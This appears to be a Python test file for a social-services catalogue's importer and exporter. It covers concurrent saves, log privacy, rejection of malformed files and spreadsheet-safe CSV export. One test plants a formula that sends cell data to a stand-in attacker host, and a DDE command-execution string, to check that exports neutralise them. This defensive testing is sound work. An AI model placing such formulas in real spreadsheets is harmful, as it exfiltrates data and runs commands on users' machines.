"""Reliability: what the catalogue guarantees under concurrent writes, failures and hostile files.

Tests taking `engine` run on SQLite and, with RELAIS_TEST_DATABASE_URL set, on PostgreSQL.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import logging
import threading
from datetime import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from bot.models import BotUserData
from catalogue.db import session_scope
from catalogue.importer import export_bytes, import_bytes, parse
from catalogue.limits import TEXT_LIMITS
from catalogue.services import (
    ConcurrentEditError,
    content,
    get_service,
    history,
    save_service,
    service_snapshot,
)
from catalogue.sheet import FORMULA_STARTS, formula_safe, unquote
from tests.bot.admin_kit import SERVICE_ID, make_kit
from tests.factories import make_service

ROUNDS = 5


def _create(engine, service_id: str) -> None:
    service = make_service(
        service_id, "Bains douches", ["shower"], hours=[("MO", time(9), time(12))]
    )
    with session_scope(engine) as session:
        save_service(session, service, actor="seed", action="create")


def _race(engine, service_id: str) -> dict[str, str]:
    """Two editors read the same stamp, then both save at once; what each one got."""
    with session_scope(engine) as session:
        seen = get_service(session, service_id).updated_at
    ready = threading.Barrier(2)
    outcome: dict[str, str] = {}

    def edit(editor: str) -> None:
        ready.wait()
        try:
            with session_scope(engine) as session:
                service = get_service(session, service_id)
                service.name = f"renamed by {editor}"
                save_service(session, service, actor=editor, expected_updated_at=seen)
            outcome[editor] = "saved"
        except ConcurrentEditError:
            outcome[editor] = "refused"

    threads = [threading.Thread(target=edit, args=(name,)) for name in ("alice", "bob")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    return outcome


def test_two_concurrent_saves_with_the_same_stamp_exactly_one_wins(engine):
    for round_ in range(ROUNDS):
        service_id = f"s-{round_}"
        _create(engine, service_id)
        outcome = _race(engine, service_id)
        assert sorted(outcome.values()) == ["refused", "saved"], outcome
        (winner,) = [editor for editor, result in outcome.items() if result == "saved"]
        with session_scope(engine) as session:
            assert get_service(session, service_id).name == f"renamed by {winner}"
            edits = [e for e in history(session, service_id) if e.action == "update"]
        assert [e.actor for e in edits] == [winner]


def test_a_failed_write_logs_no_user_text(engine, caplog):
    """The SQL parameters (user ids, what people typed) never reach an error or a log."""
    with engine.begin() as conn:
        conn.execute(text(f"DROP TABLE {BotUserData.__tablename__}"))
    caplog.set_level(logging.DEBUG)
    with pytest.raises(DBAPIError) as failure, session_scope(engine) as session:
        session.add(BotUserData(user_id=987654321, data={"search": {"text": "douche Roubaix"}}))
    logging.getLogger("relais.test").error("write failed", exc_info=failure.value)
    logged = caplog.text + str(failure.value)
    assert "write failed" in logged and "hidden due to hide_parameters" in logged
    assert "douche Roubaix" not in logged and "987654321" not in logged


# --- export cells are never formulas ------------------------------------------------------------

HOSTILE = st.text(
    alphabet=st.sampled_from(
        ["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "|", ";", ",", '"', "1"]
    ),
    max_size=8,
)


@given(HOSTILE)
def test_formula_quote_is_undone_exactly(cell):
    assert unquote(formula_safe(cell)) == cell
    assert not formula_safe(cell).startswith(FORMULA_STARTS)


def _cells(sheet: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(sheet.decode("utf-8-sig"))) for cell in row]


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=HOSTILE.map(lambda t: "=" + t + "x"), note=HOSTILE, fees=HOSTILE)
def test_exported_cells_are_never_formulas_and_read_back_the_same(sqlite_engine, name, note, fees):
    item = {
        "id": "svc",
        "name": name.strip() or "x",
        "fees_description": note.strip() or None,
        "application_process": fees.strip() or None,
        "service_at_locations": [{"location": {"id": "-loc", "name": "@place"}}],
    }
    assert import_bytes(sqlite_engine, json.dumps([item]).encode(), "a.json", actor="t").ok()
    sheet = export_bytes(sqlite_engine, "csv")
    assert not [c for c in _cells(sheet) if c.startswith(FORMULA_STARTS)]
    items, report = parse(sheet, "export.csv")
    assert report.ok(), report.problem_lines()
    with session_scope(sqlite_engine) as session:
        stored = service_snapshot(get_service(session, "svc"))
    assert content(items[0][1]) == content(stored)


async def test_admin_export_is_spreadsheet_safe(tmp_path):
    kit = await make_kit(f"sqlite:///{tmp_path / 'relais.db'}")
    try:
        with session_scope(kit.engine) as session:
            service = get_service(session, SERVICE_ID)
            service.name = '=HYPERLINK("http://evil.example/?"&A1,"Douches")'
            service.description = "+cmd|' /C calc'!A0"
            save_service(session, service, actor="t", expected_updated_at=service.updated_at)
        await kit.admin.send("/export")
        calls = await kit.admin.press("adm:exp:csv")
        (document,) = [c for c in calls if c.method == "sendDocument"]
        cells = _cells(document.files["document"])
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Douches")' in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    finally:
        await kit.app.shutdown()


# --- hostile and broken imports: a report, never a traceback, and nothing written ------------

SHEET = (
    "id,name,categories,city,access_note,free,languages,verified_on\n"
    "s-1,Douches,shower,Roubaix,Sans rendez-vous le matin,yes,fr|ar,2026-03-01\n"
    "s-2,Repas,food_distribution,Lille,Sur inscription,no,fr,2026-03-01\n"
)
SERVICE = {
    "id": "j-1",
    "name": "Bains",
    "attributes": [],
    "x_relais": {"source": "test"},
    "service_at_locations": [{"location": {"id": "loc-j", "name": "Salle"}}],
}


def _problems(data: bytes, name: str) -> list[str]:
    _, report = parse(data, name)
    return report.problem_lines()


def _state(engine) -> bytes:
    return export_bytes(engine, "hsds")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (SHEET.encode()[:-30], "line 3, free: 5 cells for 8 columns"),
        (SHEET.encode() + b's-3,"Cut,shower,Lille,x,yes,fr,2026-03-01\n', "line 4: malformed CSV"),
        (SHEET.encode("utf-16"), "this file is UTF-16 text: save it as CSV UTF-8"),
        (SHEET.encode("utf-16-le"), "this file is UTF-16 text: save it as CSV UTF-8"),
        (b"PK\x03\x04\x14\x00", "an Excel or OpenDocument workbook, not CSV"),
        (b"id,name," + b"x" * 200_000 + b"\ns,n,\n", "line 1: malformed CSV header"),
        (
            SHEET.replace("2026-03-01\ns-2", "2026-03-01\ns-2")
            .replace(",Roubaix", ",Roubaix", 1)
            .replace("Douches", "D" * 121)
            .encode(),
            "line 2, name: 121 characters, at most 120",
        ),
        (b"id,name,min_age\ns,n,\xc2\xb2\n", "line 2, min_age: not a whole number: '\xb2'"),
        (b"id,name,min_age\ns,n," + b"9" * 5000 + b"\n", "line 2, min_age: not a whole number"),
        (b"id,name,latitude,longitude\ns,n,inf,nan\n", "line 2, latitude: not a number: 'inf'"),
        (b"id,name,languages\ns,n,fr|zz\n", "line 2, languages: unknown language code 'zz'"),
        (b"id,name,hours\ns,n,mo 9-12 (2026-08-31..2026-08-01)\n", "ends before it starts"),
        (b"id,name,closures\ns,n,2026-08-31..2026-08-01 closed\n", "ends before it starts"),
    ],
)
def test_a_broken_sheet_is_named_precisely(data, expected):
    assert any(expected in line for line in _problems(data, "sheet.csv")), _problems(
        data, "sheet.csv"
    )


@pytest.mark.parametrize(
    ("doc", "expected"),
    [
        (b"[" * 200_000 + b"]" * 200_000, "nested deeper than 20 levels"),
        (b"[" * 30 + b"]" * 30, "nested deeper than 20 levels"),
        (b'[{"id": "x", "name": "y", "minimum_age": ' + b"9" * 5000 + b"}]", "invalid JSON"),
        (
            b'[{"id": "x", "name": "y", "service_at_locations": [{"location": {"id": "l", '
            b'"latitude": Infinity, "longitude": 3}}]}]',
            "Infinity is not a number",
        ),
        (
            json.dumps(
                [
                    {
                        **SERVICE,
                        "x_relais": {
                            "access": ["appointment"],
                            "gender": {"a": 1},
                            "free": 3,
                            "source": 7,
                            "translations": [],
                        },
                    }
                ]
            ).encode(),
            "item 1, x_relais.access: expected string, got array",
        ),
        (
            json.dumps(
                [{**SERVICE, "x_relais": {"translations": {"zz": {"description": "x"}}}}]
            ).encode(),
            "item 1, translations: 'zz' is not one of",
        ),
        (
            json.dumps(
                [
                    {
                        **SERVICE,
                        "schedules": [
                            {
                                "byday": "MO",
                                "opens_at": "09:00",
                                "closes_at": "12:00",
                                "valid_from": "2026-09-01",
                                "valid_to": "2026-08-01",
                            }
                        ],
                    }
                ]
            ).encode(),
            "ends before it starts",
        ),
        (
            json.dumps([{**SERVICE, "name": "N" * 100_000}]).encode(),
            "item 1, name: 100000 characters, at most 120",
        ),
    ],
)
def test_a_broken_json_file_is_named_precisely(doc, expected):
    assert any(expected in line for line in _problems(doc, "file.json")), _problems(
        doc, "file.json"
    )


def test_x_relais_wrong_types_are_each_reported():
    doc = [
        {
            **SERVICE,
            "x_relais": {
                "access": ["a"],
                "gender": {"a": 1},
                "free": 3,
                "source": 7,
                "translations": [],
                "exceptions": {},
            },
        }
    ]
    fields = {line.split(":")[0] for line in _problems(json.dumps(doc).encode(), "f.json")}
    assert {
        f"item 1, x_relais.{f}"
        for f in ("access", "gender", "free", "source", "translations", "exceptions")
    } <= fields


def test_text_is_cleaned_of_control_characters(engine):
    """NUL (PostgreSQL refuses it), terminal escapes and line breaks in a name are dropped."""
    doc = [
        {
            **SERVICE,
            "name": "\x1b[31mBains\x1b[0m\x00 douches\n",
            "description": "a\x00b\n\nc",
            "service_at_locations": [
                {
                    "location": {
                        "id": "loc-j",
                        "name": "Salle\x07",
                        "x_relais": {"approximate": "no"},
                    }
                }
            ],
        }
    ]
    assert import_bytes(engine, json.dumps(doc).encode(), "f.json", actor="t").ok()
    with session_scope(engine) as session:
        service = get_service(session, "j-1")
        assert (service.name, service.description) == ("Bains douches", "ab\n\nc")
        assert service.locations[0].name == "Salle" and service.locations[0].approximate is False


def test_a_sheet_without_some_columns_leaves_their_fields_as_they_were(engine):
    assert import_bytes(engine, SHEET.encode(), "full.csv", actor="t").ok()
    report = import_bytes(engine, b"id,name\ns-1,Bains douches\n", "names.csv", actor="t")
    assert (report.ok(), report.updated) == (True, ["s-1"])
    with session_scope(engine) as session:
        service = get_service(session, "s-1")
        assert service.name == "Bains douches" and service.free is True
        assert service.access_note == "Sans rendez-vous le matin"
        assert service.languages == ["fr", "ar"] and service.locations[0].city == "Roubaix"
    again = import_bytes(engine, b"id,name\ns-1,Bains douches\n", "names.csv", actor="t")
    assert again.unchanged == ["s-1"]


def test_kept_fields_are_checked_with_the_new_ones(engine):
    assert import_bytes(engine, b"id,name,max_age\ns,n,25\n", "a.csv", actor="t").ok()
    before = _state(engine)
    report = import_bytes(engine, b"id,name,min_age\ns,n,30\n", "b.csv", actor="t")
    assert "line 2, max_age: smaller than min_age" in report.problem_lines()
    assert _state(engine) == before


VALID = json.dumps(
    [
        SERVICE,
        {
            **SERVICE,
            "id": "j-2",
            "name": "Repas",
            "schedules": [{"byday": "MO", "opens_at": "09:00", "closes_at": "12:00"}],
        },
    ]
).encode()


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_fuzzed_imports_never_raise_and_a_rejected_one_changes_nothing(sqlite_engine, data):
    original = data.draw(st.sampled_from([VALID, SHEET.encode()]))
    name = "f.json" if original is VALID else "f.csv"
    cuts = data.draw(
        st.lists(
            st.tuples(st.integers(0, len(original)), st.binary(max_size=6), st.integers(0, 6)),
            max_size=4,
        )
    )
    mutated = original
    for at, insert, drop in cuts:
        mutated = mutated[:at] + insert + mutated[at + drop :]
    before = _state(sqlite_engine)
    report = import_bytes(sqlite_engine, mutated, name, actor="fuzz")
    if not report.ok():
        assert _state(sqlite_engine) == before


def _longest(key: str, letter: str = "é") -> str:
    return (letter + " ") * (TEXT_LIMITS[key] // 2)


async def test_a_service_with_every_text_at_its_limit_still_fits_a_telegram_message(tmp_path):
    """The limits exist for this: a card over 4,096 characters is refused by Telegram."""
    kit = await make_kit(f"sqlite:///{tmp_path / 'relais.db'}")
    try:
        item = {
            "id": "long",
            "name": _longest("name"),
            "description": _longest("description"),
            "alternate_name": _longest("alternate_name"),
            "eligibility_description": _longest("eligibility"),
            "application_process": _longest("access_note"),
            "fees_description": _longest("fees"),
            "url": "https://" + "w" * (TEXT_LIMITS["website"] - 8),
            "email": "e" * (TEXT_LIMITS["email"] - 4) + "@a.f",
            "organization": {"id": "o", "name": _longest("organization.name", "o")},
            "phones": [{"number": "03 20 00 00 0" + str(n)} for n in range(3)],
            "service_at_locations": [
                {
                    "location": {
                        "id": "l",
                        "name": _longest("locations.name"),
                        "latitude": 50.69,
                        "longitude": 3.17,
                        "description": _longest("locations.description"),
                        "addresses": [
                            {
                                "address_1": _longest("locations.address"),
                                "city": "Roubaix",
                                "postal_code": "59100",
                            }
                        ],
                    }
                }
            ],
            "schedules": [{"byday": "MO", "opens_at": "09:00", "closes_at": "12:00"}],
            "x_relais": {"source": _longest("source", "s"), "hours_note": _longest("hours_note")},
        }
        report = import_bytes(kit.engine, json.dumps([item]).encode(), "f.json", actor="t")
        assert report.ok(), report.problem_lines()
        calls = await kit.other.send("/start svc_long")
        assert any(c.method == "sendMessage" and "é é" in c.text for c in calls)
        assert not kit.request.refused
    finally:
        await kit.app.shutdown()


# --- an import touches only its own services' places and organisations -----------------------


def _hsds(sid: str, *, address: str = "1 rue A", org: str = "Asso"):
    item = {
        "id": sid,
        "name": f"Service {sid}",
        "organization": {"id": "org-1", "name": org},
        "service_at_locations": [
            {
                "location": {
                    "id": "loc-1",
                    "latitude": 50.69,
                    "longitude": 3.17,
                    "addresses": [
                        {"address_1": address, "city": "Roubaix", "postal_code": "59100"}
                    ],
                }
            }
        ],
    }
    return item


def _import(engine, *items):
    return import_bytes(engine, json.dumps(list(items)).encode(), "f.json", actor="t")


def test_a_new_service_cannot_rewrite_another_services_place_or_organisation(engine):
    assert _import(engine, _hsds("a")).ok()
    before = _state(engine)
    report = _import(engine, _hsds("b", address="99 rue Z"))
    assert "item 1, locations: 'loc-1' is shared with service 'a'" in report.problem_lines()[0]
    report = _import(engine, _hsds("b", org="Other name"))
    assert "item 1, organization: 'org-1' is shared with service 'a'" in report.problem_lines()[0]
    assert _state(engine) == before


def test_a_shared_place_described_the_same_is_linked(engine):
    assert _import(engine, _hsds("a")).ok()
    assert _import(engine, _hsds("b")).created == ["b"]
    with session_scope(engine) as session:
        assert [s.id for s in get_service(session, "a").locations[0].services] == ["a", "b"]


def test_a_shared_place_changed_for_all_its_services_is_audited_on_each(engine):
    assert _import(engine, _hsds("a"), _hsds("b")).ok()
    report = _import(engine, _hsds("a", address="2 rue B"), _hsds("b", address="2 rue B"))
    assert sorted(report.updated) == ["a", "b"]
    with session_scope(engine) as session:
        for sid in ("a", "b"):
            assert history(session, sid)[-1].after["locations"][0]["address"] == "2 rue B"


# --- every value of a rich service replaced by one of another type: a report, never a crash ---

RICH = {
    "id": "rich",
    "name": "Bains douches",
    "alternate_name": "Douches",
    "status": "active",
    "description": "Douches gratuites.",
    "url": "https://example.org",
    "email": "a@example.org",
    "assured_date": "2026-03-01",
    "minimum_age": 18,
    "maximum_age": 99,
    "eligibility_description": "Femmes",
    "fees_description": "Gratuit",
    "application_process": "Sans rendez-vous",
    "organization": {"id": "org-r", "name": "Asso", "description": "x", "website": "https://o.org"},
    "phones": [{"id": "tel-r", "number": "03 20 00 00 00", "type": "voice"}],
    "languages": [{"code": "fr"}, {"code": "ar"}],
    "service_areas": [{"name": "Roubaix"}],
    "attributes": [{"taxonomy_term": {"taxonomy": "soliguide", "code": "shower"}}],
    "service_at_locations": [
        {
            "id": "sal-r",
            "location": {
                "id": "loc-r",
                "name": "Salle",
                "latitude": 50.69,
                "longitude": 3.17,
                "addresses": [{"address_1": "1 rue A", "city": "Roubaix", "postal_code": "59100"}],
                "x_relais": {"approximate": False, "insee_code": "59512"},
            },
        }
    ],
    "schedules": [
        {
            "id": "h-r",
            "service_at_location_id": "sal-r",
            "freq": "WEEKLY",
            "byday": "MO,TU",
            "opens_at": "09:00",
            "closes_at": "12:00",
            "valid_from": "2026-01-01",
            "valid_to": "2026-12-31",
        }
    ],
    "x_relais": {
        "source": "flyer",
        "access": "unconditional",
        "free": True,
        "gender": "women",
        "exceptions": [
            {"id": "c-r", "starts_on": "2026-08-01", "ends_on": "2026-08-15", "note": "congés"}
        ],
        "translations": {"en": {"description": "Free showers."}},
    },
}
ODD_VALUES = [None, [], {}, "", "x", "²", "\x00", -1, 10**30, 1.5, True, [1], {"a": 1}]


def _paths(value, path=()):
    yield path
    children = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    for key, child in children:
        yield from _paths(child, (*path, key))


def _replaced(doc, path, new):
    doc = copy.deepcopy(doc)
    target = doc
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = new
    return doc


def test_any_value_of_another_type_anywhere_gives_a_report(sqlite_engine):
    """The probe's 286 crashes were wrong types (284 in x_relais): each path of a rich service,
    each odd value; reading and writing never raise, and a refused import changes nothing."""
    assert import_bytes(sqlite_engine, json.dumps([RICH]).encode(), "rich.json", actor="t").ok()
    stored = _state(sqlite_engine)
    for path in list(_paths(RICH))[1:]:
        for value in ODD_VALUES:
            data = json.dumps([_replaced(RICH, path, value)]).encode()
            if not parse(data, "f.json")[1].ok():
                continue
            if import_bytes(sqlite_engine, data, "f.json", actor="t").ok():
                assert import_bytes(
                    sqlite_engine, json.dumps([RICH]).encode(), "r.json", actor="t"
                ).ok()
            else:
                assert _state(sqlite_engine) == stored, (path, value)
    assert _state(sqlite_engine) == stored
